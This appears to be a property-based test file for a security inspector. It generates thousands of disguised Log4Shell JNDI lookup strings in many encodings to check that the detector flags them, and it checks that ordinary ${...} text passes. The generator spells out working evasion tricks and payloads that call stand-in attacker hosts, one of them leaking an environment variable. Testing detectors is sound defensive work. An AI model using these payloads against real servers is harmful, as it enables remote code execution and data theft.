import fc from "fast-check";
import { expect, it } from "vitest";
import { createInspector } from "../../src/index.ts";

const inspector = await createInspector();

/** Ways in which Log4j 2.0 to 2.14 lets one character be spelled: look-ups that give it back, defaults, and both nested. */
const disguise = (character: string): fc.Arbitrary<string> => {
  const simple = fc.constantFrom(
    character,
    character.toUpperCase(),
    `\${lower:${character.toUpperCase()}}`,
    `\${upper:${character}}`,
    `\${::-${character}}`,
    `\${:-${character}}`,
    `\${env:NOTHING:-${character}}`,
    `\${sys:no.such:-${character}}`,
    `\${k8s:k5:-${character}}`,
    `\${date:'${character}'}`,
    `\${main:x:-${character}}`,
  );
  return fc.oneof(
    { weight: 5, arbitrary: simple },
    { weight: 1, arbitrary: simple.map((inner) => `\${lower:${inner}}`) },
    { weight: 1, arbitrary: simple.map((inner) => `\${\${::-e}nv:A:-${inner}}`) },
  );
};

const lookup = fc
  .tuple(
    fc.tuple(..."jndi:".split("").map(disguise)),
    fc
      .constantFrom("ldap", "rmi", "dns", "ldaps", "iiop")
      .chain((scheme) => fc.tuple(...scheme.split("").map(disguise))),
    fc.constantFrom(
      "://203.0.113.9:1389/a",
      "://${env:USER}.evil.example/x",
      "://127.0.0.1#evil.example/x",
      ":\u2044/evil.example/a",
    ),
  )
  .map(([jndi, scheme, rest]) => `\${${jndi.join("")}${scheme.join("")}${rest}}`);

const encodings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `prefix ${text} suffix`,
  encodeURIComponent,
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll(/[${}:]/g, (c) => `%${c.charCodeAt(0).toString(16)}`),
  (text) => text.replaceAll(/[${}:]/g, (c) => `&#${c.charCodeAt(0)};`),
  (text) => text.replaceAll(/[${}:]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`),
  (text) => Buffer.from(text).toString("base64"),
];

it("finds at least 99 % of thousands of disguised look-ups, in every encoding", async () => {
  const samples = fc.sample(fc.tuple(lookup, fc.nat(encodings.length - 1)), { numRuns: 4000, seed: 44228 });
  const missed: string[] = [];
  for (const [text, encoding] of samples) {
    const value = encodings[encoding]?.(text) ?? text;
    const { verdict } = await inspector.inspect({
      contentType: "application/json",
      body: JSON.stringify({ agent: value }),
    });
    if (verdict === "pass") missed.push(value);
  }
  expect(missed.length, missed.slice(0, 5).join("\n")).toBeLessThanOrEqual(40);
});

it.each([
  "export PATH=${HOME:-/root}/bin",
  "The template ${name} costs ${price}.",
  "const url = `${base}/items/${id}`;",
  "${{ secrets.TOKEN }}",
])("%s is no look-up", async (text) => {
  const { findings } = await inspector.inspect({ contentType: "application/json", body: JSON.stringify({ text }) });
  expect(findings.filter(({ rule }) => rule === "lazaret/108110")).toEqual([]);
});
